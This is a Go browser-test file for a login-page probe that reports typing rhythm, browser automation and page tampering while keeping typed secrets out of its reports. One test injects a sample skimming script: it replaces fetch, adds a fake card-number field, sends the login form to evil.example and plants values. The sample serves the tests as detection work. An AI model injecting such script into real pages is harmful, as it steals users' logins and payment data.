//go:build browser

package webapp_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/countersign-auth/countersign/internal/web/webtest"
	"github.com/countersign-auth/countersign/webapp"
)

// report is what a test reads of a report.
type report struct {
	V, Seq     int
	Why        string
	Automation []string
	Device     struct {
		Screen []int
		Zone   string
	}
	Tamper struct {
		Replaced               []string
		Fields, Forms, Scripts int
		Framed                 bool
	}
	Typing struct {
		Count, Pastes, Untrusted, Silent int
		Dwell, Flight                    struct{ Mean, SD int }
	}
	text string
}

// page serves a login page with the probe and hands out the reports that came.
func page(t *testing.T, script string) (url string, reports chan report) {
	t.Helper()
	reports = make(chan report, 16)
	mux := http.NewServeMux()
	serve := func(path, kind, body string) {
		mux.HandleFunc("GET "+path, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", kind)
			w.Header().Set("Content-Security-Policy", "default-src 'none'; script-src 'self'; connect-src 'self'; form-action 'self'; img-src 'self'")
			_, _ = io.WriteString(w, body)
		})
	}
	serve("/{$}", "text/html; charset=utf-8", `<!doctype html><html lang="en"><head><title>T</title><link rel="icon" href="/icon"><script src="/other.js"></script>
		<script src="/probe.js" data-to="/probe/visit" defer></script></head><body><main><h1>H</h1>
		<form action="/done"><label>Name <input id="name" name="name"></label><label>Password <input id="secret" type="password" name="p"></label><button>Go</button></form></main></body></html>`)
	serve("/done", "text/html; charset=utf-8", `<!doctype html><html lang="en"><head><title>Done</title></head><body><main><h1 id="done">Done</h1></main></body></html>`)
	serve("/icon", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"/>`)
	serve("/other.js", "text/javascript", script)
	serve("/probe.js", "text/javascript; charset=utf-8", string(webapp.Probe()))
	mux.HandleFunc("POST /probe/visit", func(_ http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		got := report{text: string(b)}
		if err == nil {
			err = json.Unmarshal(b, &got)
		}
		if err != nil || r.Header.Get("Content-Type") != "application/json" {
			t.Errorf("a report of type %s: %v", r.Header.Get("Content-Type"), err)
		}
		reports <- got
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv.URL, reports
}

// next waits for the report that was sent for the reason why.
func next(t *testing.T, reports chan report, why string) report {
	t.Helper()
	for {
		select {
		case r := <-reports:
			if r.Why == why {
				return r
			}
		case <-time.After(time.Minute):
			t.Fatalf("no report with why = %s came", why)
		}
	}
}

// TestProbeReports: a customer types and submits; the reports say how, not what.
func TestProbeReports(t *testing.T) {
	url, reports := page(t, "")
	p := webtest.Start(t).Tab(t)
	p.Open(url)
	first := next(t, reports, "load")
	if first.V != 1 || first.Seq != 1 || len(first.Device.Screen) != 2 || first.Device.Screen[0] == 0 || first.Device.Zone == "" {
		t.Errorf("the report of the load: %s", first.text)
	}
	p.Type("#name", "quetzalcoatl")
	p.Type("#secret", "xylophone7")
	p.Submit()
	last := next(t, reports, "submit")
	if last.Seq < 2 || last.Typing.Count < 15 || last.Typing.Untrusted != 0 || last.Typing.Silent != 0 {
		t.Errorf("the report of the form: %s", last.text)
	}
	if len(last.Tamper.Replaced)+last.Tamper.Fields+last.Tamper.Forms+last.Tamper.Scripts != 0 || last.Tamper.Framed {
		t.Errorf("a page that nobody touched: %s", last.text)
	}
	for _, secret := range []string{"quetz", "xylo", "KeyX"} {
		if strings.Contains(last.text, secret) {
			t.Errorf("the report has %q: %s", secret, last.text)
		}
	}
	if last.Typing.Count == 22 {
		t.Error("the report says how many keys were pressed")
	}
}

// TestProbeSeesPrograms: a browser that is driven by a program is seen as one, and that of
// a person is not, nor are their hands.
func TestProbeSeesPrograms(t *testing.T) {
	url, reports := page(t, "")
	p := webtest.StartConspicuous(t).Tab(t)
	p.Open(url)
	if r := next(t, reports, "load"); !slices.Contains(r.Automation, "webdriver") || !slices.Contains(r.Automation, "headless") {
		t.Errorf("a driven browser is not seen as one: %s", r.text)
	}
	p = webtest.Start(t).Tab(t)
	p.Open(url)
	p.Type("#name", "quetzalcoatl")
	p.Type("#secret", "xylophone7")
	p.Submit()
	if r := next(t, reports, "submit"); len(r.Automation) != 0 || r.Typing.Dwell.SD < 2 && r.Typing.Flight.SD < 2 {
		t.Errorf("the browser of a person is taken for a driven one: %s", r.text)
	}
}

// TestProbeSeesTampering: functions that were replaced, fields that were added, a form
// that leads away, and values that no hand entered.
func TestProbeSeesTampering(t *testing.T) {
	url, reports := page(t, `
		const real = window.fetch;
		window.fetch = (...a) => real(...a);
		addEventListener("load", () => {
			const field = document.createElement("input");
			field.setAttribute("aria-label", "Card number");
			document.forms[0].append(field);
			document.forms[0].action = "https://evil.example/";
			document.querySelector("#secret").value = "planted";
			document.querySelector("#name").dispatchEvent(new KeyboardEvent("keydown", {bubbles: true, code: "KeyA"}));
		});`)
	p := webtest.Start(t).Tab(t)
	p.Open(url)
	r := next(t, reports, "load")
	if strings.Join(r.Tamper.Replaced, " ") != "fetch" || r.Tamper.Fields != 1 || r.Tamper.Forms != 1 || r.Typing.Untrusted != 1 || r.Typing.Silent != 1 {
		t.Errorf("the report: %s", r.text)
	}
}
